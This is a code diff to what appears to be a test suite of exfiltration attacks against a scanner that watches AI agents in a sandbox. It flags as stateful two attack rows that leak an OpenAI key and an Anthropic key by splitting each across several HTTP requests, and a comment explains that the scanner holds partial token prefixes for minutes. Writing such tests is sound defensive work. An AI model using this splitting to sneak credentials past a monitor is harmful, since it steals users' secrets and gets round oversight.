@@ -63,6 +63,10 @@ class Technique:
     fault: str | None = None
     offhost: bool = False  # if not stopped, the attack would leave this machine
     expected: str = "blocked"
+    # The attack leaves state behind in the cage (the scanner keeps an agent's
+    # unfinished token prefixes for minutes to join them with its next
+    # requests): it runs after every other attack, so it cannot decide them.
+    stateful: bool = False
 
     @property
     def carries_canary(self) -> bool:
@@ -441,10 +445,10 @@ ENCODING_ROWS = [
        [http(f"{HTTPS}/rt/{M}/part1?d={{{{c:dotenv-openai|split:2:0}}}}"),
         http(f"{HTTPS}/rt/{M}/part2?d={{{{c:dotenv-openai|split:2:1}}}}", delay=0.5)],
        [http(f"{HTTPS}/rt/{M}/part1?d={CLEAN}"), http(f"{HTTPS}/rt/{M}/part2?d={CLEAN}")],
-       "each request alone holds half a secret"),
+       "each request alone holds half a secret", stateful=True),
     _t("enc-split-requests-3", "encoding", "an Anthropic key cut in three, one third per request (36 characters each)",
        [http(f"{HTTPS}/rt/{M}/p{i}?d={{{{c:env-anthropic|split:3:{i}}}}}", delay=0.3 * i) for i in range(3)],
-       [http(f"{HTTPS}/rt/{M}/p{i}?d={CLEAN}") for i in range(3)], "smaller pieces, more requests"),
+       [http(f"{HTTPS}/rt/{M}/p{i}?d={CLEAN}") for i in range(3)], "smaller pieces, more requests", stateful=True),
 ]
 
 GIT_ROWS = [
